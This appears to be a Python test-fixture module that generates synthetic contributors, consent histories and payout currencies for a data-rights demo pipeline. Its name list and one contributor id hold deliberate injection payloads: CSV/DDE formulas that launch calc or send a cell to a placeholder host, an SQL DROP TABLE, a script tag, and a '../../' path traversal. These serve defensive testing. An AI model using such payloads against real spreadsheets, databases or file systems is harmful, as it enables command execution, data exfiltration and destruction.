"""Contributors: who they are, what they are paid in, and what they consented to and when."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

from pipelines.demo.roles.role import Event, at
from schemas.rights import Purpose

_END_OF_AS_OF = at("2026-06-30T23:59:59.999999")
_GIVEN = at("2021-03-01T09:00:00")


def _each(purposes: tuple[Purpose, ...], value: str, when: datetime) -> tuple[Event, ...]:
    return tuple(Event(value, when, purpose) for purpose in purposes)


_BUT_INFERENCE = tuple(p for p in Purpose if p is not Purpose.INFERENCE)
_BUT_GENERATIVE = tuple(p for p in Purpose if p is not Purpose.TRAIN_GEN)

# Every one of these allows everything at the end of as_of.
GOOD_HISTORIES: dict[str, tuple[Event, ...]] = {
    "plain": (Event("allow", _GIVEN),),
    "each_purpose": _each(tuple(Purpose), "allow", _GIVEN),
    "given_again": (
        Event("allow", _GIVEN),
        Event("deny", at("2024-01-10T10:00:00")),
        Event("allow", at("2025-01-10T10:00:00")),
    ),
    "denied_next_day": (Event("allow", _GIVEN), Event("deny", at("2026-07-01T00:00:00"))),
    "last_moment": (Event("deny", _GIVEN), Event("allow", _END_OF_AS_OF)),
    "wide_after_narrow": (
        Event("deny", _GIVEN, Purpose.TRAIN_GEN),
        Event("allow", at("2024-09-09T09:09:09")),
    ),
    "conditional_then_settled": (
        Event("conditional", _GIVEN),
        Event("allow", at("2023-02-02T00:00:00")),
    ),
}

# Histories without signed agreements.
UNSIGNED = frozenset({"unsigned"})
# Roles name these; the reasons they cause stand with the roles.
OTHER_HISTORIES: dict[str, tuple[Event, ...]] = {
    # Their yes names no agreement.
    "unsigned": (Event("allow", _GIVEN),),
    "missing": (),
    "denied": (Event("deny", _GIVEN),),
    "withdrawn": (Event("allow", _GIVEN), Event("deny", at("2024-03-01T12:00:00"))),
    "conditional": (Event("allow", _GIVEN), Event("conditional", at("2025-03-01T12:00:00"))),
    "after": (Event("allow", at("2026-07-01T00:00:00")),),
    "tie_conditional": (Event("allow", _GIVEN), Event("conditional", _GIVEN)),
    "tie_unknown": (Event("allow", _GIVEN), Event("unknown", _GIVEN)),
    "no_inference": _each(_BUT_INFERENCE, "allow", _GIVEN),
    "inference_denied": (
        Event("allow", _GIVEN),
        Event("deny", at("2025-11-01T00:00:00"), Purpose.INFERENCE),
    ),
    "not_generative": (
        *_each(_BUT_GENERATIVE, "allow", _GIVEN),
        Event("deny", _GIVEN, Purpose.TRAIN_GEN),
    ),
    "generative_withdrawn": (
        Event("allow", _GIVEN),
        Event("deny", at("2025-04-04T04:04:04"), Purpose.TRAIN_GEN),
    ),
}

# In no table, and without a consent.
UNLISTED_ID = "c-unlisted"

_PLACES = (
    ("US", "USD"),
    ("DE", "EUR"),
    ("JP", "JPY"),
    ("GB", "GBP"),
    ("NO", "NOK"),
    ("IN", "INR"),
    ("FR", "EUR"),
    ("KW", "KWD"),
    ("BR", "BRL"),
    ("KR", "KRW"),
    (None, "USD"),
    ("CL", "CLP"),
)
_NAMES = (
    "Ada Okafor",
    '=HYPERLINK("http://example.invalid/?x="&A1,"open me")',
    "Søren Ångström",
    "+1 (555) 0100",
    "山田 花子",
    "@SUM(1+1)*cmd",
    "O'Brien; DROP TABLE contributors;--",
    "-2+3+cmd|' /C calc'!A0",
    "Line\nBreak",
    "‮desrever",
    '<script>alert("name")</script>',
    'José, "Pepe"\tDíaz',
    "N" * 400,
    "",
)
# A statement is a file named after its contributor, so this id tries to leave the folder.
HOSTILE_CONTRIBUTOR_ID = "../../=cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Contributor:
    """One row of `contributors`, with the history that its consents follow."""

    contributor_id: str
    display_name: str | None
    country: str | None
    currency: str
    payee_ref: str
    history: str


@dataclass(frozen=True)
class People:
    """The contributors of a library, by what can be asked of them."""

    everyone: tuple[Contributor, ...]
    good: tuple[str, ...]
    by_history: dict[str, tuple[str, ...]]

    def author(self, history: str, turn: int) -> str:
        """A contributor id with such a history; `turn` spreads the work over them."""
        if history == "unlisted":
            return UNLISTED_ID
        pool = self.good if history == "good" else self.by_history[history]
        return pool[turn % len(pool)]


def make_people(assets: int) -> People:
    """Contributors for a library of that many assets; at least 32."""
    good_names = tuple(GOOD_HISTORIES)
    everyone: list[Contributor] = []
    for number in range(max(21, assets // 15)):
        hostile = number == 3
        contributor_id = HOSTILE_CONTRIBUTOR_ID if hostile else f"c-{number:04d}"
        everyone.append(_person(contributor_id, number, good_names[number % len(good_names)]))
    good = tuple(person.contributor_id for person in everyone)
    for number, history in enumerate(OTHER_HISTORIES, start=len(everyone)):
        everyone.append(_person(f"c-{history.replace('_', '-')}", number, history))
    by_history = {
        name: tuple(p.contributor_id for p in everyone if p.history == name)
        for name in (*GOOD_HISTORIES, *OTHER_HISTORIES)
    }
    return People(tuple(everyone), good, by_history)


def history_events(history: str) -> tuple[Event, ...]:
    """The contributor-wide consent events of a history, in no order that matters."""
    return GOOD_HISTORIES[history] if history in GOOD_HISTORIES else OTHER_HISTORIES[history]


def _person(contributor_id: str, number: int, history: str) -> Contributor:
    country, currency = _PLACES[number % len(_PLACES)]
    name = _NAMES[number] if number < len(_NAMES) else f"Contributor {number}"
    return Contributor(
        contributor_id, name or None, country, currency, f"payee-{number:05d}", history
    )
